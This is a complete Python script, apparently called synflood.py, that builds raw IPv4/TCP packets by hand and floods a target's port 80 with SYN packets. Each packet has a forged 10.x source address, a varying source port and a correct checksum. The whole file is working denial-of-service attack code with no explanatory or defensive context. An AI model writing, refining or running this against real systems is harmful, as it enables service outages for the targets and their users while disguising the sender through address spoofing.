import socket, struct, sys
# usage: synflood.py DST COUNT  -- distinct SYNs from 10.x.y.z through the IP stack (raw socket)
dst, count = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
d = socket.inet_aton(dst)
def csum(b):
    if len(b) % 2: b += b'\0'
    t = sum(struct.unpack('!%dH' % (len(b)//2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
sent = 0
for i in range(count):
    src = bytes([10, 100 + (i >> 16 & 0x3f), (i >> 8) & 255, i & 255])
    sport = 1024 + i % 50000
    tcp = struct.pack('!HHIIBBHHH', sport, 80, i, 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + d + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', c) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, i & 0xffff, 0, 64, 6, 0, src, d)
    try:
        s.sendto(ip + tcp, (dst, 0)); sent += 1
    except OSError:
        pass
print(f"sent {sent} of {count}")
